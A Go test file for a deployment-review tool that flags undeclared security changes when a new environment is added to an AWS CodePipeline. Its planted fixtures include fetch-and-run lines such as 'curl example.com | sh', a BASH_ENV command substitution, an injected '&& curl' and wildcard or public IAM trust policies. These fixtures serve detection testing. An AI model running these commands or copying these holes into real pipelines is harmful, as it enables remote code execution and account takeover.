package review_test

import (
	"slices"
	"strings"
	"testing"

	"kasha/internal/assembly"
	"kasha/internal/review"
	"kasha/tests/reviewtest"
)

// newEnvironment is the review of a change that adds an environment to the pipeline. plant changes the template of its stack.
func newEnvironment(t *testing.T, added deployedEnvironment, plant func(resources map[string]assembly.Resource)) review.Report {
	t.Helper()
	head := pipelineApp(t, append(testAndLive(), added))
	if plant != nil {
		plant(head.Stacks[len(head.Stacks)-1].Template.Resources)
	}
	return compare(t, pipelineApp(t, testAndLive()), head)
}

func undeclared(report review.Report) []review.Finding {
	return slices.DeleteFunc(slices.Clone(report.Openings), func(f review.Finding) bool { return f.Declared })
}

// Catches an environment whose deployment is a dozen openings although all of it follows from its declaration, and one that is not told.
func TestWhatADeclaredEnvironmentBringsIsToldOnce(t *testing.T) {
	for _, added := range []deployedEnvironment{
		{"qa", "nonproduction", "8", "eu-central-1"}, {"qa", "production", "8", "eu-central-1"},
		{"qa", "nonproduction", "8", "eu-west-3"}, {"qa", "nonproduction", "5", "eu-west-1"}, // a new region; the account and region of test
	} {
		place := "stage qa, account " + added.account() + " in " + added.region
		report := newEnvironment(t, added, nil)
		var told []string
		for _, f := range report.Openings {
			if f.Brings == "qa" && f.Old+f.New == "" {
				told = append(told, f.What)
			}
		}
		if len(told) != 1 || !strings.Contains(told[0], place) {
			t.Errorf("told %q, want one sentence with %s", told, place)
		}
		for _, f := range undeclared(report) {
			t.Errorf("%s: %+v is an opening, want it to follow from the declaration", place, f)
		}
	}
}

// Catches a permission, an action or a command that hides behind the declaration of a new environment.
func TestWhatANewEnvironmentDoesNotDeclareIsAnOpening(t *testing.T) {
	qa := deployedEnvironment{"qa", "nonproduction", "8", "eu-central-1"}
	eu := deployedEnvironment{"qa", "production", "8", "eu-central-1"}
	other, edge := deployedEnvironment{"", "", "9", "eu-central-1"}, deployedEnvironment{"", "", "8", edgeRegion}
	const anotherRole = "arn:aws:iam::888888888888:role/admin"
	for name, c := range map[string]struct {
		environment deployedEnvironment
		plant       func(map[string]assembly.Resource)
		want        string
	}{
		"a Lambda function": {qa, addAction(2, action("More", "Invoke", "Lambda", 5, arn("BuildRole"), object{"FunctionName": "f"})),
			"Stages[qa].Actions[More].ActionTypeId.Provider changes"},
		"the build project of another stage": {qa, addAction(2, action("More", "Build", "CodeBuild", 5, arn("BuildRole"),
			object{"ProjectName": object{"Ref": "Files"}})), "Stages[qa].Actions[More].Configuration.ProjectName changes"},
		"an action in a stage that is there": {qa, addAction(0, action("More", "Invoke", "Lambda", 5, arn("BuildRole"), object{})),
			"Stages[test].Actions[More].ActionTypeId.Provider changes"},
		"the deploy role of another account": {qa, setAction("data.Deploy", "RoleArn", other.role("deploy")),
			"Stages[qa].Actions[data.Deploy].RoleArn changes"},
		"a deploy role of another region": {qa, setAction("data.Deploy", "RoleArn", edge.role("deploy")),
			"Stages[qa].Actions[data.Deploy].RoleArn changes"},
		"a role that is not the bootstrap's": {qa, setAction("data.Deploy", "RoleArn", anotherRole),
			"Stages[qa].Actions[data.Deploy].RoleArn changes"},
		"the role of another bootstrap": {qa, setAction("data.Deploy", "RoleArn", strings.Replace(qa.role("deploy"), "hnb659fds", "other", 1)),
			"Stages[qa].Actions[data.Deploy].RoleArn changes"},
		"another role of CloudFormation": {qa, setAction("data.Prepare", "Configuration.RoleArn", anotherRole),
			"CloudFormation acts with another role"},
		"a stack of another environment": {qa, setAction("data.Prepare", "Configuration.StackName", "kasha-live-data"),
			"Configuration.StackName changes"},
		"a template that is not synthesized": {qa, setAction("data.Prepare", "Configuration.TemplatePath", "Source::other.json"),
			"Stages[qa].Actions[data.Prepare].Configuration.StackName changes"},
		"a variable that a shell executes": {qa, setAction("Smoke-qa", "Configuration.EnvironmentVariables",
			`[{"name":"BASH_ENV","type":"PLAINTEXT","value":"$(curl example.com)"}]`), "another build project runs"},
		"production without approval":      {eu, removeAction("Promote-to-qa"), "no approvals and checks"},
		"an approval after the deployment": {eu, setAction("Promote-to-qa", "RunOrder", 5.0), "no approvals and checks"},
		"a build before the approval":      {eu, setAction("Smoke-qa", "RunOrder", 1.0), "no approvals and checks"},
		"a smoke test with another command": {qa, replace("Pipeline0qa0Smoke", "bash scripts/smoke", "curl example.com | sh"),
			"another build project runs"},
		"a smoke test that controls its host": {qa, set("Pipeline0qa0Smoke", "Environment.PrivilegedMode", true),
			"another build project runs"},
		"a smoke test with a role that is there": {qa, set("Pipeline0qa0Smoke", "ServiceRole", arn("Role")), "another build project runs"},
		"publishing runs another command": {qa, replace("Files", `\"commands\": [`, `\"commands\": [\n        \"curl example.com | sh\",`),
			"builds run other commands"},
		"publishing to another account": {qa, replace("Files", "888888888888-eu-central-1", "999999999999-eu-central-1"),
			"builds run other commands"},
		"publishing from outside": {qa, replace("Files", "assembly-qa/", "assembly-qa/../../src/"), "builds run other commands"},
		"publishing and more": {qa, replace("Files", `888888888888-eu-central-1-a8a05a97\\\"`,
			`888888888888-eu-central-1-a8a05a97\\\" && curl example.com`), "builds run other commands"},
		"the pipeline assumes another account's role": {qa, replace("Policy", qa.role("deploy"), other.role("deploy")), other.role("deploy")},
		"the pipeline assumes another role":           {qa, replace("Policy", qa.role("deploy"), anotherRole), anotherRole},
		"the pipeline assumes any role":               {qa, replace("Policy", qa.role("deploy"), "arn:aws:iam::888888888888:role/*"), "role/*"},
		"files are published with the role that deploys": {qa, replace("FilePolicy", qa.role("file-publishing"), qa.role("deploy")),
			qa.role("deploy") + " by"},
		"another account reads the artifacts": {qa, replace("BucketPolicy", qa.role("deploy"), other.role("deploy")), other.role("deploy")},
		"the new account's administrator reads the artifacts": {qa, replace("BucketPolicy", qa.role("deploy"), "arn:aws:iam::888888888888:root"),
			"888888888888:root"},
		"the new account writes artifacts": {qa, replace("BucketPolicy", "s3:GetObject*", "s3:*"), "s3:*"},
		"a reader that is no role": {qa, replace("BucketPolicy", qa.role("deploy"), "bootstrap:cdk-hnb659fds-deploy-role"),
			"bootstrap:cdk-hnb659fds-deploy-role"},
		"artifacts go to a bucket of another region": {qa, replace("Policy", "store-eu-central-1\"", "store-ap-south-1\""), "store-ap-south-1"},
		"a role that is there gets what another has": {qa,
			replace("Pipeline0test0Smoke0Policy", "Pipeline0test0Smoke\"", "Pipeline0live0Smoke\""),
			"codebuild:UpdateReport on ${Pipeline/live/Smoke.Arn} by"},
		"a role that is there may use the new stage": {qa, replace("Pipeline0test0Smoke0Policy", "Pipeline0test0Smoke\"", "Pipeline0qa0Smoke\""),
			"codebuild:UpdateReport on ${Pipeline/qa/Smoke.Arn} by"},
		"a new role with more rights": {qa, replace("Pipeline0qa0Smoke0Policy", "s3:GetObject", "s3:*"), "s3:*"},
		"a new role that anybody assumes": {qa, replace("Pipeline0qa0Smoke0Role", `{"Service":"codebuild.amazonaws.com"}`, `"*"`),
			"another build project runs"},
		"builds start another project": {qa, replace("BuildPolicy", "Pipeline0qa0Smoke", "Files"), "codebuild:StartBuild on ${Files.Arn}"},
	} {
		opened := undeclared(newEnvironment(t, c.environment, c.plant))
		if all := strings.Join(reviewtest.Sentences(opened), "\n"); !strings.Contains(all, c.want) {
			t.Errorf("%s: openings\n%s\nwant one with %q", name, all, c.want)
		}
	}
}

// Catches an environment that only the pipeline has: nothing declares which account it is in.
func TestAStageWithoutAnEnvironmentIsAnOpening(t *testing.T) {
	head := pipelineApp(t, append(testAndLive(), deployedEnvironment{"qa", "nonproduction", "8", "eu-central-1"}))
	head.Stacks = slices.DeleteFunc(head.Stacks, func(s assembly.Stack) bool { return s.Stage == "qa" })
	report := compare(t, pipelineApp(t, testAndLive()), head)
	opened := strings.Join(reviewtest.Sentences(undeclared(report)), "\n")
	for _, want := range []string{"Stages[qa].Actions[Smoke-qa].ActionTypeId.Provider changes", "builds run other commands",
		"cdk-hnb659fds-deploy-role-888888888888-eu-central-1 by AWS:${Role}"} {
		if !strings.Contains(opened, want) {
			t.Errorf("openings\n%s\nwant one with %q", opened, want)
		}
	}
}

// Catches a stage that is there already, in another account, and counts as new because its environment is.
func TestAStageThatIsThereIsNotNew(t *testing.T) {
	base := pipelineApp(t, append(testAndLive(), deployedEnvironment{"qa", "nonproduction", "9", "eu-central-1"}))
	base.Stacks = slices.DeleteFunc(base.Stacks, func(s assembly.Stack) bool { return s.Stage == "qa" })
	head := pipelineApp(t, append(testAndLive(), deployedEnvironment{"qa", "nonproduction", "8", "eu-central-1"}))
	opened := strings.Join(reviewtest.Sentences(undeclared(compare(t, base, head))), "\n")
	if !strings.Contains(opened, "Stages[qa].Actions[data.Deploy].RoleArn changes") {
		t.Errorf("openings\n%s\nwant the stage's other role", opened)
	}
}

// Catches a bucket for artifacts in a region that the new environment does not use, and one that others read.
func TestAStoreThatTheEnvironmentDoesNotNeedIsAnOpening(t *testing.T) {
	qa := deployedEnvironment{"qa", "nonproduction", "8", "eu-west-3"}
	for name, c := range map[string]struct{ old, new, want string }{
		"another account": {qa.account(), "999999999999", "deploy-role-999999999999-eu-west-3"},
		"everybody":       {qa.role("deploy"), "*", "access for everyone"},
		"another action":  {"s3:GetObject*", "s3:PutObject*", "s3:PutObject*"},
	} {
		head := pipelineApp(t, append(testAndLive(), qa))
		for _, stack := range head.Stacks {
			if stack.Name == "kasha-pipeline-support-eu-west-3" {
				replace("StorePolicy", c.old, c.new)(stack.Template.Resources)
			}
		}
		opened := strings.Join(reviewtest.Sentences(undeclared(compare(t, pipelineApp(t, testAndLive()), head))), "\n")
		if !strings.Contains(opened, c.want) {
			t.Errorf("%s: openings\n%s\nwant one with %q", name, opened, c.want)
		}
	}
	head := pipelineApp(t, append(testAndLive(), qa))
	for i := range head.Stacks {
		if head.Stacks[i].Stage == "qa" {
			head.Stacks[i].Region = "us-east-1" // as if the stage's stacks were elsewhere
		}
	}
	opened := strings.Join(reviewtest.Sentences(undeclared(compare(t, pipelineApp(t, testAndLive()), head))), "\n")
	if !strings.Contains(opened, "arn:aws:s3:::store-eu-west-3") {
		t.Errorf("openings\n%s\nwant the store in a region without a stack of qa", opened)
	}
}
